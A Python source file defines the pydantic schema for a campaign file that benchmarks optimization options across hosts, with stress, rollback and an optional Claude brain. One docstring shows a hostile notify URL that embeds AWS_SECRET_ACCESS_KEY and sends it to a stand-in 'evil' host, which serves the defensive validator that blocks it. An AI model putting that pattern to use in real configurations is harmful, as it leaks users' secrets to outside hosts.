"""The campaign file as data: hosts, baseline, options, the benchmark, stress, rollback, the brain, the goal."""

from __future__ import annotations

from typing import Literal

from pydantic import Field, StrictInt, field_validator, model_validator

from agent.models.bench import BenchSpec, regex_compiles
from agent.models.commands import CommandSpec, Probe, Strict, command_list
from policies.oneline import OneLine
from policies.schema import NotifyTarget, env_refs
from tools.transport import Host


class Option(Strict):
    """A candidate optimization: how to turn it on and off, how to tell it is on, and what to check first."""

    id: StrictInt = Field(ge=1, le=999)
    """The option's number (1-999); people name it at gates as #N."""
    title: OneLine = Field(min_length=1)
    """A short name for the option, shown everywhere it is."""
    hypothesis: str = ""
    """Why it should help: given to the language-model brain when it plans and investigates (the rules brain does not
    read it)."""
    expected_gain_pct: float | None = None
    """The gain you expect, in % of the metric; with a calibration it says how many pairs could show it."""
    risk: Literal["low", "medium", "high"] = "medium"
    """How risky you judge it: shown with the plan and given to the language-model brain. It is not the safety gate's
    `risk` fact, which the assessment works out from the evidence."""
    apply: list[CommandSpec] = Field(min_length=1)
    """Commands that turn the option on (a string or a list of strings or commands); also used to toggle between A/B
    arms."""
    revert: list[CommandSpec] = Field(min_length=1)
    """Commands that turn the option off again: used between A/B arms and for the rollback."""
    probes: list[Probe] = Field(default_factory=list)
    """Read-only checks run by the investigation before anything is applied."""
    check: CommandSpec | None = None
    """Read-only: exit 0 when the option is in effect on the host, non-zero when not. It confirms a rollback, and after
    a crash decides whether an apply or revert that was cut short took effect; without it, such a mutation opens the
    rollback gate. A string is a command with a 30 s timeout."""
    notes: str = ""
    """Anything else the language-model brain should know about the option when it plans (a note that starts with
    `proposed by ` marks an option a brain proposed)."""

    _cmds = field_validator("apply", "revert", mode="before")(command_list)

    @field_validator("check", mode="before")
    @classmethod
    def _check_shorthand(cls, value: object) -> object:
        return {"run": value, "timeout": 30} if isinstance(value, str) else value


class Goal(Strict):
    """What the campaign is for, judged on one metric."""

    text: OneLine
    """The goal in words, e.g. `decode throughput at concurrency 90 up 20% on these hosts`."""
    metric: str = "output_tok_s"
    """The metric the goal is judged on; must equal `benchmark.metric`."""
    target_pct: float | None = None
    """The gain that meets the goal, in %; the report says how far the kept options got."""
    at: float | Literal["slo"] | None = None
    """With a sweep, the level the goal is judged at (one of `benchmark.sweep.values`), or `slo`: the highest level
    where the baseline still meets `benchmark.slo`. Default: the sweep's highest level."""


class Upload(Strict):
    """A file copied from the campaign directory to each target host's working directory at setup."""

    src: str = Field(min_length=1)
    """The file's path relative to the campaign's directory; its bytes are kept with the session."""
    dest: str | None = None
    """Where to put it, relative to the host's working directory (default: the file's name); a destination outside it is
    asked about at a command gate."""
    on: str = "all"
    """Which hosts get it: a host name, a role, or `all`."""


class Baseline(Strict):
    """The known-good state every option is measured against and rolled back to."""

    description: str = ""
    """The known-good configuration in words."""
    upload: list[Upload] = Field(default_factory=list)
    """Files copied from the campaign directory to hosts before setup."""
    setup: list[CommandSpec] = Field(default_factory=list)
    """Commands that bring every host to the baseline (a string or a list); a failure stops the run."""
    health: list[CommandSpec] = Field(default_factory=list)
    """Commands that must succeed on a healthy host: after setup (a failure stops the run), after every rollback, and
    when a stress or benchmark run overruns its deadline (failing there, the server is dead rather than wedged)."""
    alive: list[CommandSpec] = Field(default_factory=list)
    """Read-only commands that succeed while the server's process exists (e.g. a look at its pidfile's PID), run when
    the health checks fail at a deadline: a server whose process is there but does not answer is wedged, not dead."""

    _cmds = field_validator("setup", "health", "alive", mode="before")(command_list)


STRESS_CHECK_TIMEOUT_S = 60.0  # the timeout of a stress test's `check`


class StressSpec(CommandSpec):
    """A stress scenario run on every option after its A/B; a hang, crash or failed check makes it unsafe."""

    name: OneLine
    """The stress scenario's name, as reports and gates show it."""
    runs: StrictInt = Field(default=1, ge=1, le=100)
    """How many times it runs per option."""
    timeout: float = Field(default=300.0, gt=0, le=86_400)
    """Deadline in seconds: a run past it is killed and counted against the option as a wedge (alive and silent),
    saturated (still printing) or dead (the health checks fail)."""
    diagnose: str | None = None
    """Run on the same host when a run overruns its deadline, before the kill (e.g. a py-spy dump): the evidence a wedge
    leaves."""
    diagnose_timeout: float = Field(default=30.0, gt=0, le=600)
    """Seconds the `diagnose` command may take."""
    crash_patterns: list[str] | None = None
    """Regexes that mark a crash in the output, added to the built-in engine crash and watchdog signatures (they never
    switch those off)."""
    check: str | None = None
    """Run on the same host after each run that finished cleanly (60 s timeout): a non-zero exit means the server did
    not come back clean, the outcome `leak`, which makes the option unsafe."""
    typical_s: float | None = Field(default=None, gt=0, le=86_400)
    """Seconds one run usually takes, its `check` included: `signoff check` counts the expected duration with it
    (without it, with what an earlier session of the campaign measured, else with the timeout)."""

    def _typical_bound(self) -> float:
        return self.timeout + (STRESS_CHECK_TIMEOUT_S if self.check else 0.0)

    @model_validator(mode="after")
    def _patterns(self) -> StressSpec:
        for i, pattern in enumerate(self.crash_patterns or []):
            regex_compiles(pattern, f"crash_patterns[{i}]")
        return self


class RollbackSpec(Strict):
    """How a rollback (and the post-stress check) is verified. Bands come from the noise measured in the
    run (agent/exec/verification.py); `tolerance_pct` is only the band when there is no noise estimate."""

    verify_runs: StrictInt = Field(default=3, ge=1, le=20)
    """Benchmark runs after a revert that must match the baseline; also how many baseline runs are measured at setup
    as the known-good reference."""
    settle_runs: StrictInt = Field(default=6, ge=0, le=20)
    """When the first readings are not back, up to this many more, one at a time, judging the latest `verify_runs`: a
    revert that restarts a server reads cold for a while."""
    settle_wait_s: float = Field(default=10.0, ge=0, le=300)
    """The pause before each settling run, doubling from one run's length up to this many seconds (0: none)."""
    tolerance_pct: float = Field(default=5.0, gt=0)
    """The band, in %, used only when the run has no noise estimate at all."""
    floor_pct: float = Field(default=1.0, ge=0)
    """A noise band is never narrower than this, in %."""
    ceiling_pct: float = Field(default=20.0, gt=0)
    """A band wider than this (in %) cannot verify by the metric: the option's `check` decides alone."""

    @model_validator(mode="after")
    def _ordered(self) -> RollbackSpec:
        if self.floor_pct >= self.ceiling_pct:
            raise ValueError(f"floor_pct ({self.floor_pct:g}) must be below ceiling_pct ({self.ceiling_pct:g})")
        return self


class Price(Strict):
    """US dollars per million tokens."""

    input: float = Field(ge=0)
    """US dollars per million input tokens."""
    output: float = Field(ge=0)
    """US dollars per million output tokens."""
    cache_write: float = Field(ge=0)
    """US dollars per million tokens written to the prompt cache."""
    cache_read: float = Field(ge=0)
    """US dollars per million tokens read from the prompt cache."""
    long_prompt_tokens: int | None = Field(default=None, ge=1)
    """A call whose prompt (input, cache write and cache read tokens) is longer than this is billed at
    `long_prompt_factor` times every rate, as Claude Haiku 5.5 is above 100K tokens; unset: one rate for any prompt."""
    long_prompt_factor: float = Field(default=1.0, ge=1)
    """How many times every rate a call costs once its prompt is longer than `long_prompt_tokens`."""


class BrainSpec(Strict):
    """Which reasoning runs the campaign, and the limits of the language-model one."""

    kind: Literal["rules", "claude"] = "rules"
    """`rules` (offline, deterministic) or `claude` (the Anthropic API; needs ANTHROPIC_API_KEY or
    ANTHROPIC_AUTH_TOKEN)."""
    model: str = "claude-sonnet-5-5"
    """The Anthropic model the claude brain calls."""
    max_tokens: StrictInt = Field(default=2048, ge=256, le=64_000)
    """Output tokens per model call."""
    max_turns: StrictInt = Field(default=8, ge=1, le=50)
    """Tool-use turns per investigation subagent."""
    subagent_tokens: StrictInt = Field(default=60_000, ge=1_000)
    """Input plus output tokens one investigation subagent may spend."""
    timeout_s: float = Field(default=90.0, gt=0, le=900)
    """Seconds per model call."""
    max_retries: StrictInt = Field(default=4, ge=0, le=10)
    """Retries on 429, 5xx, overloaded and connection errors."""
    unavailable_after: StrictInt = Field(default=2, ge=1, le=10)
    """Model calls in a row that go unanswered (every attempt timed out, lost its connection or got a 5xx) before the
    model is given up: the steps after fall back to the rule brain, each journaled, and before the next option the
    `brain_unavailable` gate asks whether to go on with the rule brain, retry the model, or stop.
    After one such call the next gets a single attempt, so a hanging API costs max_retries + unavailable_after
    timeouts in all, not max_retries + 1 per step. Any answer (even a refusal, a 400 or a 429) starts the count
    again."""
    backoff_s: float = Field(default=1.0, ge=0, le=60)
    """The first retry's wait in seconds; it doubles, with jitter."""
    thinking_tokens: StrictInt | None = Field(default=None, ge=1024, le=32_000)
    """Extended thinking: the model reasons with up to this many tokens before each answer (billed as output, on top
    of max_tokens). Off by default. With it on, answers are asked for with tool choice `auto` (the API refuses
    thinking with a forced tool) and the schema still enforced (strict tools, then pydantic); a model whose
    capabilities say it cannot think is refused at preflight."""
    price: Price | None = None
    """Prices for the spend budget (default: the built-in table for known models)."""


class Fleet(Strict):
    """How a command spreads over many hosts: at most `parallel[role]` members of a role run at once
    (the others wait their turn), and at most `max_parallel` hosts overall."""

    parallel: dict[str, StrictInt] = Field(default_factory=dict)
    """Role → how many of its hosts run a command at once (the others wait their turn)."""
    max_parallel: StrictInt = Field(default=32, ge=1, le=512)
    """Hosts that run commands at once, overall."""

    @field_validator("parallel")
    @classmethod
    def _positive(cls, value: dict[str, int]) -> dict[str, int]:
        bad = [role for role, n in value.items() if n < 1]
        if bad:
            raise ValueError(f"parallel must be at least 1 (role {', '.join(bad)})")
        return value


class CampaignNotifyTarget(NotifyTarget):
    """A `notify:` target in a campaign. A campaign is the file someone hands you, so it may not read
    the environment: `url: https://evil/?k={{env:AWS_SECRET_ACCESS_KEY}}` would send your secret with the
    first gate. Only the policy file (the operator's) may name environment variables."""

    @model_validator(mode="after")
    def _no_environment(self) -> CampaignNotifyTarget:
        if any(env_refs(t) for t in [self.url or "", *self.headers.values()]):
            raise ValueError(
                "a campaign's notify: cannot read the environment ({{env:NAME}}); put a target that needs a "
                "credential in the policy file's notify:"
            )
        return self


# The environment variables that are signoff's own credentials and settings (the model provider's key, the signing
# key, the team store's URL): a campaign is the file someone hands you, and naming one under `secrets:` would send it
# to that campaign's hosts.
OWN_CREDENTIALS = ("ANTHROPIC_", "SIGNOFF_")


class Campaign(Strict):
    """A campaign: the goal, the hosts, the baseline, the benchmark, stress tests and numbered options."""

    name: OneLine
    """The campaign's name, shown in sessions and reports."""
    goal: Goal
    """What the campaign is for, and the metric and target it is judged on."""
    facts: list[OneLine] = Field(default_factory=list)
    """What you know about the system, one statement each: given to the language-model brain with the campaign (the
    rules brain does not read them)."""
    hosts: list[Host] = Field(min_length=1)
    """The machines commands run on."""
    vars: dict[str, str] = Field(default_factory=dict)
    """Template variables for commands, used as {{name}}; a value may use built-ins and other variables. A variable
    named like a secret (*_KEY, *_TOKEN, *_SECRET, *PASSWORD…) is masked in all output, and a session will not start
    while its value is a literal rather than a reference such as `{{HF_TOKEN}}` (use `secrets:`)."""
    secrets: list[str] = Field(default_factory=list)
    """Names of environment variables a command may use as {{NAME}}: passed on stdin, never on a command line, redacted
    everywhere; `run` refuses to start without them. signoff's own (ANTHROPIC_*, SIGNOFF_*) are never a host's."""
    baseline: Baseline = Field(default_factory=Baseline)
    """The known-good state: uploads, setup and health checks."""
    benchmark: BenchSpec
    """The A/B benchmark every option is measured with."""
    stress: list[StressSpec] = Field(default_factory=list)
    """Stress tests run on every option after its A/B: a hang, a crash or a failed check makes it unsafe."""
    rollback: RollbackSpec = Field(default_factory=RollbackSpec)
    """How a rollback is verified against the baseline."""
    brain: BrainSpec = Field(default_factory=BrainSpec)
    """Which reasoning runs the campaign (rules or claude) and its limits."""
    fleet: Fleet = Field(default_factory=Fleet)
    """How commands spread over many hosts."""
    notify: list[CampaignNotifyTarget] = Field(default_factory=list)
    """Told when a gate starts waiting for a person, before the policy's own notify: (no environment references; a
    `command:` target runs only when the policy's command rules allow it)."""
    options: list[Option] = Field(min_length=1)
    """The candidate optimizations, tried in order unless a person or the brain says otherwise."""
    confirm: bool | Literal["pairwise"] = True
    """When anything was kept: at the end, an interleaved A/B of the configuration the campaign started from (every kept
    option reverted, newest first, checked) against the final one, which judges the goal by its CI; with two or more
    kept, each option kept after the first is also measured on its own against the start, to tell whether they stack.
    The hosts end on the final configuration. `pairwise` also measures each pair of kept options (at most 4 kept).
    `false`: none of this, and the report says the goal is an estimate from the single gains."""

    @field_validator("secrets")
    @classmethod
    def _not_signoffs_own(cls, names: list[str]) -> list[str]:
        own = [n for n in names if n.upper().startswith(OWN_CREDENTIALS)]
        if own:
            raise ValueError(
                f"{own[0]} is signoff's own credential, never a host's: a campaign cannot send it to its hosts"
            )
        return names

    @field_validator("hosts")
    @classmethod
    def _hosts_inherit_none_of_signoffs_own(cls, hosts: list[Host]) -> list[Host]:
        for host in hosts:
            for name in host.inherit_env:
                stem = name.upper().rstrip("*")
                prefix = name.endswith("*")
                if any(stem.startswith(own) or (prefix and own.startswith(stem)) for own in OWN_CREDENTIALS):
                    raise ValueError(
                        f"host {host.name}: inherit_env {name!r} would hand signoff's own credentials "
                        "(ANTHROPIC_*, SIGNOFF_*) to the campaign's commands"
                    )
        return hosts

    @model_validator(mode="after")
    def _consistent(self) -> Campaign:
        if self.goal.metric != self.benchmark.metric:
            raise ValueError(
                f"goal.metric ({self.goal.metric}) differs from benchmark.metric "
                f"({self.benchmark.metric}); the goal is judged on what the benchmark measures"
            )
        return self

    def option(self, option_id: int) -> Option:
        for option in self.options:
            if option.id == option_id:
                return option
        raise KeyError(option_id)

    def targets(self, on: str) -> list[Host]:
        if on == "all":
            return list(self.hosts)
        named = [h for h in self.hosts if h.name == on]
        return named or [h for h in self.hosts if on in h.roles]
